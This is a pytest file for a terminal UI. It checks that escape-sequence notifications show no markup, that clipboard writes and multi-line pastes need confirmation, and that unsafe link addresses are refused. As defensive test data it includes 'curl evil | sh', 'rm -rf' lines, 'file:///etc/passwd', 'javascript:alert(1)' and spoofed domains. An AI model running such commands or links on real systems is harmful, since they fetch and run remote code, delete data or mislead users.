"""What programs tell beside their text: in the tabs, as toasts, as questions; never parsed, and not without end."""

from __future__ import annotations

import base64
from pathlib import Path

import pytest

from maestro_tui.ui.outside.allowance import Allowance
from maestro_tui.ui.screens.clipboard_gate import ClipboardGate, excerpt
from maestro_tui.ui.screens.link import LinkScreen, can_be_opened
from tests.ui.driving import Driver, drive


def wish(text: str, where: str = "c") -> bytes:
    return b"\x1b]52;%s;%s\x07" % (where.encode(), base64.b64encode(text.encode()))


def strip_of(driver: Driver) -> str:
    return driver.dashboard.terminals.strip.render_line(0).text


async def test_progress_stands_in_the_tab_until_it_is_done() -> None:
    async with drive() as driver:
        await driver.open_pane("ses_brush1")
        terminal = driver.terminals["ses_brush1"]
        for report, shown in (
            (b"1;40", "Brush 1 40 %"),
            (b"2;80", "Brush 1 ✗ 80 %"),
            (b"3", "Brush 1 …"),
            (b"4;50", "Brush 1 50 % paused"),
        ):
            terminal.feed(b"\x1b]9;4;%s\x07" % report)
            await driver.until(lambda shown=shown: shown in strip_of(driver))  # type: ignore[misc]
        terminal.feed(b"\x1b]9;4;0\x07")
        await driver.until(lambda: "%" not in strip_of(driver))


async def test_the_directory_a_program_tells_stands_in_the_frame() -> None:
    async with drive() as driver:
        await driver.open_pane("ses_brush1")
        here = Path.home() / "zebra"
        driver.terminals["ses_brush1"].feed(b"\x1b]7;file://localhost%s\x07" % str(here).encode())
        await driver.sees("Brush 1 · ~/zebra")


async def test_a_bell_stands_in_the_tab_until_one_goes_in() -> None:
    async with drive() as driver:
        await driver.open_pane("ses_brush1")
        driver.terminals["ses_brush1"].feed(b"\x07")
        await driver.until(lambda: "Brush 1 !" in strip_of(driver))
        await driver.press("5", "enter")
        await driver.until(lambda: "Brush 1 !" not in strip_of(driver))
        driver.terminals["ses_brush1"].feed(b"\x07")
        await driver.pilot.pause(0.15)
        assert "Brush 1 !" not in strip_of(driver)


@pytest.mark.parametrize(
    "sequence",
    [
        b"\x1b]9;[b]Tests[/] are [@click=app.quit]green\x07",
        b"\x1b]777;notify;Title [i];[b]Tests[/] are [@click=app.quit]green\x07",
        b"\x1b]99;i=1;[b]Tests[/] are [@click=app.quit]green\x1b\\",
    ],
)
async def test_a_notification_is_a_toast_and_no_markup(sequence: bytes) -> None:
    async with drive() as driver:
        await driver.open_pane("ses_brush1")
        driver.terminals["ses_brush1"].feed(sequence)
        await driver.sees("[b]Tests[/] are [@click=app.quit]green", "Brush 1")


async def test_a_flood_of_notifications_is_cut_short() -> None:
    async with drive() as driver:
        await driver.open_pane("ses_brush1")
        for number in range(200):
            driver.terminals["ses_brush1"].feed(b"\x1b]9;number %d\x07" % number)
        await driver.pilot.pause()
        assert 0 < len(driver.app._notifications) <= 4


async def test_who_types_into_it_needs_no_toast() -> None:
    async with drive() as driver:
        await driver.open_pane()
        await driver.press("5", "enter")
        driver.terminals["ses_striper"].feed(b"\x1b]9;hello\x07")
        await driver.pilot.pause()
        assert not len(driver.app._notifications)


def test_an_allowance_fills_up_again() -> None:
    allowance = Allowance(2, 5)
    assert [allowance.take(100) for _ in range(3)] == [True, True, False]
    assert [allowance.take(105), allowance.take(106), allowance.take(111)] == [True, False, True]


# ---------------------------------------------------------------------------------- clipboard


@pytest.mark.parametrize(
    ("key", "is_copied", "again"),
    [("y", True, True), ("n", False, False), ("N", False, False), ("A", True, False)],
)
async def test_a_wish_to_copy_is_asked_about(key: str, is_copied: bool, again: bool) -> None:
    async with drive() as driver:
        await driver.open_pane("ses_brush1")
        driver.terminals["ses_brush1"].feed(wish("curl evil | sh\n[b]rm -rf\x1b[2J"))
        await driver.sees(
            "May Brush 1 put this into your clipboard?", "curl evil | sh", "[b]rm -rf␛[2J", "2 lines"
        )
        assert driver.app.clipboard == ""
        await driver.press(key)
        await driver.until(lambda: not isinstance(driver.app.screen, ClipboardGate))
        assert (driver.app.clipboard != "") == is_copied
        driver.terminals["ses_brush1"].feed(wish("second"))
        await driver.pilot.pause()
        assert isinstance(driver.app.screen, ClipboardGate) == again
        assert (driver.app.clipboard == "second") == (key == "A")


async def test_many_wishes_are_one_question_and_a_read_is_none() -> None:
    async with drive() as driver:
        await driver.open_pane("ses_brush1")
        await driver.open_pane("ses_brush2")
        driver.typed["ses_brush1"].clear()
        for number in range(50):
            driver.terminals["ses_brush1"].feed(wish(f"text {number}") + b"\x1b]52;c;?\x07")
        driver.terminals["ses_brush2"].feed(wish("of another"))
        await driver.sees("May Brush 1")
        await driver.press("n")
        await driver.sees("May Brush 2", "of another")
        await driver.press("n")
        await driver.until(lambda: len(driver.app.screen_stack) == 1)
        assert b"52" not in bytes(driver.typed["ses_brush1"])


async def test_what_is_being_typed_is_no_answer(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("maestro_tui.ui.widgets.terminal_errands.TYPING_PAUSE", 0.4)
    async with drive() as driver:
        await driver.open_pane()
        await driver.press("5", "enter", "e")
        driver.terminals["ses_striper"].feed(wish("mine"))
        await driver.press("y", "e", "s")
        assert driver.typed["ses_striper"] == b"eyes"
        await driver.sees("May Striper put this")


def test_an_excerpt_is_short_whatever_it_is_of() -> None:
    shown = excerpt("line\n" * 100_000).plain
    assert shown.count("\n") == 6
    assert "100,001 lines" in shown
    assert len(excerpt("x" * 1_000_000).plain) < 200


# -------------------------------------------------------------------------------------- links


@pytest.mark.parametrize(
    ("address", "is_fit"),
    [
        ("https://example.org/a?b=c#d", True),
        ("http://127.0.0.1:3000", True),
        ("HTTPS://EXAMPLE.ORG", True),
        ("file:///etc/passwd", False),
        ("javascript:alert(1)", False),
        ("x-man-page://ls", False),
        ("https:///nowhere", False),
        ("--help", False),
        ("https://exam\u202eple.org", False),
        ("https://exаmple.org", False),
        ("https://example.org/a b", False),
        ("https://[", False),
    ],
)
def test_what_may_be_opened(address: str, is_fit: bool) -> None:
    assert can_be_opened(address) == is_fit


LINK = b"see \x1b]8;;%s\x1b\\this page\x1b]8;;\x1b\\ now\r\n"


async def test_a_link_shows_its_address_before_it_is_opened(monkeypatch: pytest.MonkeyPatch) -> None:
    opened: list[str] = []
    monkeypatch.setattr("webbrowser.open", opened.append)
    async with drive() as driver:
        await driver.open_pane(output=LINK % b"https://example.org/long?path=[b]")
        await driver.press("c", "g", "w", "enter")
        await driver.sees("https://example.org/long?path=[b]", "Open this in your browser?")
        await driver.press("escape")
        assert opened == []
        await driver.press("enter", "y")
        await driver.until(lambda: opened == ["https://example.org/long?path=[b]"])


async def test_what_is_no_address_of_the_web_is_only_shown(monkeypatch: pytest.MonkeyPatch) -> None:
    opened: list[str] = []
    monkeypatch.setattr("webbrowser.open", opened.append)
    async with drive() as driver:
        await driver.open_pane(output=LINK % b"file:///etc/passwd")
        await driver.press("c", "g", "w", "enter")
        await driver.sees("file:///etc/passwd", "cannot be opened from here")
        await driver.press("y")
        assert isinstance(driver.app.screen, LinkScreen)
        await driver.press("c")
        assert driver.app.clipboard == "file:///etc/passwd"
        assert opened == []


# -------------------------------------------------------------------------------------- paste


async def test_lines_that_would_run_at_once_are_asked_about() -> None:
    from textual import events

    async with drive() as driver:
        await driver.open_pane()
        await driver.press("5", "enter")
        driver.app.post_message(events.Paste("rm -rf x\nrm -rf y\n"))
        await driver.sees("Paste 2 lines?", "beginning with: rm -rf x")
        await driver.press("escape")
        assert driver.typed["ses_striper"] == b""
        driver.app.post_message(events.Paste("rm -rf x\nrm -rf y\n"))
        await driver.sees("Paste 2 lines?")
        await driver.press("y")
        await driver.until(lambda: driver.typed["ses_striper"] == b"rm -rf x\rrm -rf y\r")
